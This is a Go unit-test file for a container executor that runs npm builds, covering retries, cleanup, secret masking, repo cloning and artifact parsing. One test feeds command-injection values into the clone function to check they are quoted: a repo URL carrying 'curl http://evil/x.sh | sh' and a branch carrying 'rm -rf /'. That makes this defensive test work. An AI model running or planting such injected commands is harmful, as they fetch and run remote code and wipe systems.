package executor

import (
	"context"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/codeready-toolchain/devteam-orchestrator/pkg/container"
	"github.com/codeready-toolchain/devteam-orchestrator/pkg/masking"
)

type fakeProvisioner struct {
	startCalls  int
	execResults []struct {
		stdout string
		stderr string
		exit   int
	}
	execIdx            int
	cleanupErr         error
	cleanupCall        int
	startErrOnce       bool
	missingPackageJSON bool
}

func (f *fakeProvisioner) StartOrReuse(_ context.Context, projectID, _ string) (*container.Result, error) {
	f.startCalls++
	if f.startErrOnce && f.startCalls == 1 {
		return nil, assert.AnError
	}
	return &container.Result{ContainerID: "c1", ContainerName: "n", ContainerStatus: "started"}, nil
}

func (f *fakeProvisioner) Exec(_ context.Context, _ string, cmd []string) (string, string, int, error) {
	if len(cmd) > 1 && cmd[0] == "npm" && cmd[1] == "--version" {
		return "10.0.0", "", 0, nil
	}
	if len(cmd) > 0 && cmd[0] == "sh" {
		if f.missingPackageJSON && len(cmd) > 1 && strings.Contains(cmd[len(cmd)-1], "test -f package.json") {
			return "", "", 1, nil
		}
		return "", "", 0, nil
	}
	if f.execIdx >= len(f.execResults) {
		return "", "", 0, nil
	}
	r := f.execResults[f.execIdx]
	f.execIdx++
	return r.stdout, r.stderr, r.exit, nil
}

func (f *fakeProvisioner) CleanupExpired(_ context.Context, _ int, _ string) (*container.CleanupResult, error) {
	f.cleanupCall++
	return &container.CleanupResult{}, f.cleanupErr
}

func TestValidateRetryLimit(t *testing.T) {
	require.NoError(t, ValidateRetryLimit(1))
	require.NoError(t, ValidateRetryLimit(2))
	require.Error(t, ValidateRetryLimit(0))
	require.Error(t, ValidateRetryLimit(3))
}

func TestExecute_SucceedsFirstAttempt(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{{stdout: "Modified src/a.js\n", exit: 0}}}
	ex := New(fp, time.Second, nil)

	result, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Equal(t, 1, result.AttemptCount)
	assert.Contains(t, result.FilesModified, "src/a.js")
	assert.Empty(t, result.RetryAttempts)
}

func TestExecute_RetriesOnceThenSucceeds(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{
		{stderr: "boom", exit: 1},
		{stdout: "Created dist/out.js\n", exit: 0},
	}}
	ex := New(fp, time.Second, nil)

	result, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Equal(t, 2, result.AttemptCount)
	assert.Len(t, result.RetryAttempts, 1)
	assert.Equal(t, 1, fp.cleanupCall)
}

func TestExecute_ExhaustsAttemptsAndFails(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{
		{stderr: "fail1", exit: 1},
		{stderr: "fail2", exit: 1},
	}}
	ex := New(fp, time.Second, nil)

	_, err := ex.Execute(context.Background(), "proj-1", "install", "npm ci", "", "")
	require.Error(t, err)
	assert.Equal(t, 1, fp.cleanupCall)
}

func TestExecute_RetriesAfterProvisionFailureThenSucceeds(t *testing.T) {
	fp := &fakeProvisioner{
		startErrOnce: true,
		execResults: []struct {
			stdout string
			stderr string
			exit   int
		}{{stdout: "Modified src/a.js\n", exit: 0}},
	}
	ex := New(fp, time.Second, nil)

	result, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.NoError(t, err)
	assert.True(t, result.Success)
	assert.Equal(t, 2, result.AttemptCount)
	require.Len(t, result.RetryAttempts, 1)
	assert.Equal(t, "failed", result.RetryAttempts[0].State)
	assert.Equal(t, 1, fp.cleanupCall)
}

func TestExecute_MasksSecretsInCapturedOutput(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{{stdout: "Modified src/a.js\ntoken=abcd1234efgh5678\n", exit: 0}}}
	ex := New(fp, time.Second, nil)
	ex.SetMasker(masking.New(nil))

	result, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.NoError(t, err)
	assert.NotContains(t, result.StdoutOutput, "abcd1234efgh5678")
}

func TestExecute_ClonesRepoWhenURLProvided(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{{stdout: "Modified src/a.js\n", exit: 0}}}

	var seen []string
	fp2 := &capturingProvisioner{fakeProvisioner: fp, onExec: func(cmd []string) { seen = append(seen, strings.Join(cmd, " ")) }}
	ex := New(fp2, time.Second, nil)

	result, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "https://example.com/acme/widget.git", "main")
	require.NoError(t, err)
	assert.True(t, result.Success)
	require.NotEmpty(t, seen)
	assert.Contains(t, seen[0], "git clone --branch main https://example.com/acme/widget.git /workspace/widget")
}

func TestExecute_SkipsCloneWithoutRepoURL(t *testing.T) {
	var sawClone bool
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{{stdout: "Modified src/a.js\n", exit: 0}}}
	fp2 := &capturingProvisioner{fakeProvisioner: fp, onExec: func(cmd []string) {
		if len(cmd) > 0 && cmd[0] == "sh" && strings.Contains(cmd[len(cmd)-1], "git clone") {
			sawClone = true
		}
	}}
	ex := New(fp2, time.Second, nil)

	_, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.NoError(t, err)
	assert.False(t, sawClone)
}

func TestExecute_FailsWhenPackageJSONMissing(t *testing.T) {
	fp := &fakeProvisioner{execResults: []struct {
		stdout string
		stderr string
		exit   int
	}{
		{exit: 1},
		{exit: 1},
	}}
	fp.missingPackageJSON = true
	ex := New(fp, time.Second, nil)

	_, err := ex.Execute(context.Background(), "proj-1", "build", "npm run build", "", "")
	require.Error(t, err)
}

func TestBuildScriptCheck_ExtractsScriptFromNpmRun(t *testing.T) {
	_, name := buildScriptCheck("npm run build")
	assert.Equal(t, "build", name)
}

func TestBuildScriptCheck_EmptyForNonRunCommand(t *testing.T) {
	script, name := buildScriptCheck("npm ci")
	assert.Empty(t, name)
	assert.Nil(t, script)
}

func TestRepoWorkspaceDir_StripsGitSuffix(t *testing.T) {
	assert.Equal(t, "/workspace/widget", repoWorkspaceDir("https://example.com/acme/widget.git"))
	assert.Equal(t, "/workspace/widget", repoWorkspaceDir("git@example.com:acme/widget.git"))
}

func TestCloneCommand_QuotesHostileRepoURLAndBranch(t *testing.T) {
	cmd := cloneCommand("https://x/y; curl http://evil/x.sh | sh #.git", "main; rm -rf /")
	require.Len(t, cmd, 3)
	script := cmd[2]
	assert.NotContains(t, script, "curl http://evil/x.sh | sh #")
	assert.Contains(t, script, `'https://x/y; curl http://evil/x.sh | sh #.git'`)
	assert.Contains(t, script, `'main; rm -rf /'`)
}

func TestShQuote_EscapesEmbeddedSingleQotes(t *testing.T) {
	assert.Equal(t, `'it'\''s'`, shQuote("it's"))
}

type capturingProvisioner struct {
	*fakeProvisioner
	onExec func(cmd []string)
}

func (c *capturingProvisioner) Exec(ctx context.Context, containerID string, cmd []string) (string, string, int, error) {
	c.onExec(cmd)
	return c.fakeProvisioner.Exec(ctx, containerID, cmd)
}

func TestCaptureArtifacts_DeduplicatesAndTrims(t *testing.T) {
	stdout := "Modified  src/a.js  \nCreated src/b.js\nmodified src/a.js\nDeleted old.js\n"
	files := captureArtifacts(stdout)
	assert.ElementsMatch(t, []string{"src/a.js", "src/b.js", "old.js"}, files)
}

func TestCaptureArtifacts_NoMatches(t *testing.T) {
	assert.Empty(t, captureArtifacts("nothing interesting here"))
}
